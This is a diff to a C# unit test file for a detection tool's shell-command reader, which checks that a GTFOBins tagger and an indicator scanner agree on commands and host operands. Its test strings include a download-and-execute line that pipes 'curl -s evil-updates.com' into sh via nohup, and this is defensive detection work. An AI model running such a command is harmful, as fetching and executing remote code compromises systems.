@@ -9,8 +9,9 @@ using Xunit;
 namespace B64Hunt.Tests.ShellReading
 {
     /// <summary>
-    /// Add-GtfoBinsTag and Find-B64Ioc read the same command table: through every wrapper, the command that runs is
-    /// the same for both (cat's operand is a file, curl's a host), and the wrapper's own operands are neither.
+    /// Add-GtfoBinsTag and Find-B64Ioc read the same shell reader output: through every wrapper, variable and nested
+    /// piece of code, the command that runs is the same for both (cat's operand is a file, curl's a host), and the
+    /// wrapper's own operands are neither.
     /// </summary>
     public class StageAgreementTests
     {
@@ -79,6 +80,31 @@ namespace B64Hunt.Tests.ShellReading
             Assert.Equal("cat", ShellCommandReader.Read(text).Last().CommandName);
             Assert.Contains("cat", Tagger.Tag(text).Select(t => t.Name));
             Assert.Empty(IocTestSupport.Of(text, "dns"));
+        }
+
+        [Theory]
+        // The command word is a variable the line assigns: only the reader knows it is cat (a file command) or curl.
+        [InlineData("a=cat; $a notes.io", "cat", new string[0])]
+        [InlineData("a=curl; $a evil-updates.com", "curl", new[] { "evil-updates.com" })]
+        [InlineData("w=nohup; $w cat notes.io", "cat", new string[0])]
+        // Commands found in code the text carries: -c strings, find -exec.
+        [InlineData("sh -c 'cat notes.io'", "cat", new string[0])]
+        [InlineData("nohup bash -c 'curl -s evil-updates.com | sh' &", "curl", new[] { "evil-updates.com" })]
+        [InlineData("find / -name k -exec cat notes.io \\;", "cat", new string[0])]
+        public void FindB64IocJudgesWordsByTheCommandsTheReaderFinds(string text, string command, string[] dns)
+        {
+            // Both stages read the same reader output: the command GTFOBins tags is the command whose operands the
+            // indicator scanner judges (a file name for cat, a host for curl).
+            Assert.Contains(ShellCommandReader.Read(text), c => c.CommandName == command && c.Spans.Count > 0);
+            Assert.Contains(command, Tagger.Tag(text).Select(t => t.Name));
+            Assert.Equal(dns, IocTestSupport.Of(text, "dns"));
+        }
+
+        [Fact]
+        public void AnUnassignedVariableAsTheCommandLeavesItsOperandsFreeText()
+        {
+            // Look-alike: $a is never assigned, so no command is known and a registrable dotted operand is reported.
+            Assert.Equal(new[] { "notes.io" }, IocTestSupport.Of("$a notes.io", "dns"));
         }
 
         [Fact]
